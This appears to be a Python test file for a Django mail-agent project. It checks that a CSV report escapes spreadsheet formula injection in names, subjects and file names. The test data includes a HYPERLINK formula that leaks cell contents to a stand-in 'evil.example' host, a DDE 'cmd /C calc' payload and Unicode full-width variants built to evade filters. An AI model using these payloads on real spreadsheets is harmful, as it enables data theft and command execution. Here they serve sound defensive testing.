"""The shadow report's CSV opens in a spreadsheet as data: a customer's name, a subject or a file
name that looks like a formula is shown as text, never run."""

from __future__ import annotations

import csv
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils import timezone

from mailagent.csvsafe import safe_cell
from mailagent.models import Customer, Invoice
from mailagent.services.shadow import ShadowReport, ShadowRow, shadow_write

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        # OWASP's triggers
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rcmd", "'\rcmd"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        # trimmed by some spreadsheets before they look for a formula
        ("  =1+1", "'  =1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("\u3000=1+1", "'\u3000=1+1"),
        # full-width and small forms, read as formulas after NFKC normalisation
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0bSUM(A1)", "'\uff0bSUM(A1)"),
        ("\uff0d1+1", "'\uff0d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\ufe661+1", "'\ufe661+1"),
        ("\uff0d\uff11\uff12\uff15", "'\uff0d\uff11\uff12\uff15"),
        # plain numbers cannot be formulas: left as numbers a spreadsheet can add up
        ("-125.00", "-125.00"),
        ("+3", "+3"),
        ("-1,250.50", "-1,250.50"),
        ("42", "42"),
        (" -7 ", " -7 "),
        # ordinary text, and formula characters that are not at the start
        ("Sunrise Bakery", "Sunrise Bakery"),
        ("Miller & Sons = best", "Miller & Sons = best"),
        ("jane@customer.example", "jane@customer.example"),
        ("-", "'-"),
        ("", ""),
        ("- see the attached list", "'- see the attached list"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(cell, written):
    assert safe_cell(cell) == written


@pytest.mark.parametrize("value", [None, 0, -125, Decimal("-125.00"), -1.5, True])
def test_values_that_are_not_text_are_left_to_the_csv_module(value):
    assert safe_cell(value) is value


@pytest.mark.django_db
def test_formula_names_and_subjects_come_back_as_text_from_the_shadow_command(settings, tmp_path):
    (settings.INBOX_DIR / "01-formula.eml").write_bytes(
        b'From: =HYPERLINK("http://evil.example") <mallory@evil.example>\n'
        b"To: agent@acme.example\n"
        b"Subject: +SUM(1,2)\n"
        b"Message-ID: <f1@evil.example>\n"
        b"Date: Tue, 24 Nov 2026 09:00:00 +0000\n\n"
        b"Hello, where is my order?\n"
    )
    (settings.INBOX_DIR / "02-plain.eml").write_bytes(
        b"From: Luis Moreno <hello@sunrisebakery.example>\n"
        b"To: agent@acme.example\n"
        b"Subject: -125.00\n"
        b"Message-ID: <p1@sunrisebakery.example>\n"
        b"Date: Tue, 24 Nov 2026 09:05:00 +0000\n\n"
        b"Is that the credit you owe us?\n"
    )
    (settings.INBOX_DIR / "=1+1.eml").write_bytes(b"just a line of text\n")
    customer = Customer.objects.create(
        key="=hyperlink", name=HYPERLINK, emails=["ap@evil.example"], contact_name="@Mallory"
    )
    Invoice.objects.create(
        customer=customer,
        number="INV-1",
        currency="USD",
        balance=Decimal("300.00"),
        due_date=timezone.localdate() - timedelta(days=20),
    )

    call_command("shadow", "--last", "10", "--out", str(tmp_path))

    (csv_path,) = tmp_path.glob("*.csv")
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8", newline="")))
    by_key = {row["key"]: row for row in rows}
    assert by_key["01-formula.eml"]["subject"] == "'+SUM(1,2)"
    assert by_key["'=1+1.eml"]["outcome"] == "quarantine"
    reminder = by_key["'" + HYPERLINK]
    assert reminder["workflow"] == "reminder"
    assert by_key["02-plain.eml"]["subject"] == "-125.00"
    assert by_key["02-plain.eml"]["who"] == "hello@sunrisebakery.example"
    for row in rows:
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "@", "\uff1d")), (row, value)


def test_shadow_write_leaves_ordinary_text_and_numbers_as_they_were(tmp_path):
    report = ShadowReport(source="test", created_at=timezone.now())
    report.rows.append(
        ShadowRow("reminder", "Sunrise Bakery", "-125.00", "@channel", "nothing", why="-1,250.50")
    )
    _html, csv_path = shadow_write(report, folder=tmp_path)
    with csv_path.open(encoding="utf-8", newline="") as handle:
        (row,) = csv.DictReader(handle)
    assert (row["key"], row["who"], row["subject"], row["why"]) == (
        "Sunrise Bakery",
        "-125.00",
        "'@channel",
        "-1,250.50",
    )
